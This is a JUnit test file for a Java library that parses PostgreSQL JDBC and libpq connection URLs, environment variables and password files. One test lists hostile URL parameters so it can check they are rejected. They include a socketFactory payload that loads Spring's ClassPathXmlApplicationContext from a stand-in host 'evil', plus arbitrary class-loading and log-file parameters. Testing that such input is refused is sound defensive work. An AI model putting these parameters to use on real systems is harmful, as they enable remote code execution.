package dev.drift.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.drift.core.DriftException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** How a URL and the libpq environment become a connection, without a server (see LibpqEnvironmentTest with one). */
class DatabaseUrlTest {

    private static final Map<String, String> NO_ENV = Map.of("HOME", "/nonexistent");

    private static Properties props(DatabaseUrl url) {
        return url.connectionProperties(Duration.ofSeconds(10));
    }

    @Test
    void jdbcUserInfoIsHonouredAndNeverKeptInTheUrl() {
        DatabaseUrl url = DatabaseUrl.parse("jdbc:postgresql://app:Sekret1@db.example:6543/tenant_a?sslmode=require", NO_ENV);
        assertThat(url.jdbcUrl()).isEqualTo("jdbc:postgresql://db.example:6543/tenant_a?sslmode=require");
        assertThat(url.display()).isEqualTo("db.example:6543/tenant_a");
        assertThat(props(url)).containsEntry("user", "app").containsEntry("password", "Sekret1");
        assertThat(url.toString()).doesNotContain("Sekret1");
    }

    @Test
    void libpqUriParametersAreHonouredNotDropped() {
        DatabaseUrl url = DatabaseUrl.parse("postgresql://db1:5433,db2/app?user=alice&password=Sekret1"
                + "&sslmode=verify-full&sslrootcert=/etc/ca.pem&application_name=nightly&connect_timeout=3"
                + "&options=-c%20search_path%3Dx&target_session_attrs=read-write", NO_ENV);
        assertThat(url.jdbcUrl()).isEqualTo("jdbc:postgresql://db1:5433,db2:5432/app");
        assertThat(url.server()).isEqualTo("db1:5433,db2:5432");
        assertThat(props(url)).containsEntry("user", "alice").containsEntry("password", "Sekret1")
                .containsEntry("sslmode", "verify-full").containsEntry("sslrootcert", "/etc/ca.pem")
                .containsEntry("ApplicationName", "nightly").containsEntry("connectTimeout", "3")
                .containsEntry("options", "-c search_path=x").containsEntry("targetServerType", "primary");
    }

    @Test
    void portListsAreOneOrOnePerHost() {
        assertThat(DatabaseUrl.parse("postgresql://a,b/db?port=5433,5434", NO_ENV).server()).isEqualTo("a:5433,b:5434");
        assertThat(DatabaseUrl.parse("postgresql://a,b/db?port=5433", NO_ENV).server()).isEqualTo("a:5433,b:5433");
        assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://a,b,c/db?port=1,2", NO_ENV))
                .isInstanceOf(DriftException.class).hasMessageContaining("2 ports for 3 hosts");
        assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://app:Sekret1@a/db?port=99999", NO_ENV))
                .hasMessageContaining("bad port '99999'").hasMessageNotContaining("Sekret1");
    }

    @Test
    void urlParametersThatLoadCodeAcceptOnlyTheDriversOwnClasses() {
        assertThat(DatabaseUrl.parse("jdbc:postgresql://a/db?sslfactory=org.postgresql.ssl.NonValidatingFactory", NO_ENV)
                .jdbcUrl()).isEqualTo("jdbc:postgresql://a:5432/db?sslfactory=org.postgresql.ssl.NonValidatingFactory");
        for (String hostile : List.of("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                + "&socketFactoryArg=http://evil/x.xml", "sslfactory=com.example.Evil", "SSLFACTORY=com.example.Evil",
                "sslhostnameverifier=x.Y", "sslpasswordcallback=x.Y", "authenticationPluginClassName=x.Y",
                "loggerFile=/tmp/x&password=Sekret1")) {
            assertThatThrownBy(() -> DatabaseUrl.parse("jdbc:postgresql://a/db?" + hostile, NO_ENV))
                    .isInstanceOf(DriftException.class).hasMessageContaining("Drift accepts only the driver's own classes")
                    .message().doesNotContain("Sekret1");
        }
    }

    @Test
    void unsupportedParametersAreRefusedByName() {
        assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://a/db?sslcrl=/x&password=Sekret1", NO_ENV))
                .isInstanceOf(DriftException.class).hasMessageContaining("'sslcrl' is not supported")
                .hasMessageNotContaining("Sekret1");
        assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://a/db?service=prod", NO_ENV))
                .hasMessageContaining("service files");
        assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://a/db", Map.of("PGSERVICE", "prod")))
                .hasMessageContaining("PGSERVICE");
        assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://a/db?hostaddr=10.0.0.1", NO_ENV))
                .hasMessageContaining("hostaddr");
        assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://a/db?client_encoding=LATIN1", NO_ENV))
                .hasMessageContaining("UTF8");
    }

    @Test
    void theEnvironmentFillsWhatTheUrlLeavesUnsaid() {
        Map<String, String> env = Map.of("PGHOST", "envhost", "PGPORT", "6000", "PGDATABASE", "envdb", "PGUSER", "envuser",
                "PGPASSWORD", "Sekret2", "PGSSLMODE", "require", "PGAPPNAME", "cron", "PGOPTIONS", "-c work_mem=1MB",
                "PGCONNECT_TIMEOUT", "7", "HOME", "/nonexistent");
        DatabaseUrl bare = DatabaseUrl.parse("postgresql://", env);
        assertThat(bare.display()).isEqualTo("envhost:6000/envdb");
        assertThat(props(bare)).containsEntry("user", "envuser").containsEntry("password", "Sekret2")
                .containsEntry("sslmode", "require").containsEntry("ApplicationName", "cron")
                .containsEntry("options", "-c work_mem=1MB").containsEntry("connectTimeout", "7");
        assertThat(bare.passwordSource()).isEqualTo("PGPASSWORD");
        // The URL wins over the environment, part by part.
        DatabaseUrl given = DatabaseUrl.parse("postgresql://me:Sekret3@db:5433/mine?sslmode=disable&application_name=x", env);
        assertThat(given.display()).isEqualTo("db:5433/mine");
        assertThat(props(given)).containsEntry("user", "me").containsEntry("password", "Sekret3")
                .containsEntry("sslmode", "disable").containsEntry("ApplicationName", "x");
        // A JDBC URL without a host takes PGHOST too; its own driver parameters stay in the URL (and win).
        DatabaseUrl jdbc = DatabaseUrl.parse("jdbc:postgresql:mine?sslmode=disable", env);
        assertThat(jdbc.jdbcUrl()).isEqualTo("jdbc:postgresql://envhost:6000/mine?sslmode=disable");
        // No database anywhere: libpq's default, the user name.
        assertThat(DatabaseUrl.parse("postgresql://db", Map.of("PGUSER", "bob")).database()).isEqualTo("bob");
    }

    @Test
    void aHostStartingWithSlashIsAUnixSocket() {
        for (String url : new String[] {"postgresql:///app?host=/var/run/postgresql&port=5433",
                "postgresql://%2Fvar%2Frun%2Fpostgresql:5433/app"}) {
            DatabaseUrl socket = DatabaseUrl.parse(url, NO_ENV);
            assertThat(socket.display()).isEqualTo("/var/run/postgresql:5433/app");
            assertThat(props(socket)).containsEntry("socketFactory", "dev.drift.jdbc.unixsocket.UnixSocketFactory")
                    .containsEntry("socketFactoryArg", "/var/run/postgresql/.s.PGSQL.5433")
                    .containsEntry("sslmode", "disable");
        }
        assertThat(DatabaseUrl.parse("postgresql:///app", Map.of("PGHOST", "/tmp")).display()).isEqualTo("/tmp:5432/app");
        assertThatThrownBy(() -> DatabaseUrl.parse("postgresql:///app?host=/tmp,db2", NO_ENV))
                .hasMessageContaining("Unix-socket directory cannot be one of several hosts");
    }

    @Test
    void thePasswordFileIsReadAsLibpqReadsIt(@TempDir Path tmp) throws Exception {
        Path pgpass = tmp.resolve(".pgpass");
        Files.writeString(pgpass, "# comment\nother:*:*:*:nope\ndb:5432:tenant\\:x:app:first\ndb:*:*:app:pa\\:ss\\\\w\n");
        Files.setPosixFilePermissions(pgpass, PosixFilePermissions.fromString("rw-------"));
        Map<String, String> env = Map.of("HOME", tmp.toString());
        DatabaseUrl url = DatabaseUrl.parse("postgresql://app@db/tenant_a", env);
        assertThat(props(url)).containsEntry("password", "pa:ss\\w");
        assertThat(url.passwordSource()).isEqualTo("the password file " + pgpass + " (line 4)");
        assertThat(props(url.withDatabase("tenant:x"))).containsEntry("password", "first");
        // PGPASSFILE names another file; PGPASSWORD wins over any file.
        Path other = Files.writeString(tmp.resolve("other"), "*:*:*:*:fromother\n");
        Files.setPosixFilePermissions(other, PosixFilePermissions.fromString("rw-------"));
        assertThat(props(DatabaseUrl.parse("postgresql://app@db/x", Map.of("PGPASSFILE", other.toString()))))
                .containsEntry("password", "fromother");
        assertThat(props(DatabaseUrl.parse("postgresql://app@db/x", Map.of("PGPASSFILE", other.toString(),
                "PGPASSWORD", "fromenv")))).containsEntry("password", "fromenv");
        // A file others may read is ignored, and the reason kept for the error message.
        Files.setPosixFilePermissions(pgpass, PosixFilePermissions.fromString("rw-r--r--"));
        DatabaseUrl open = DatabaseUrl.parse("postgresql://app@db/tenant_a", env);
        assertThat(props(open)).doesNotContainKey("password");
        assertThat(open.passwordSource()).contains("was ignored: group or others may read it");
    }
}
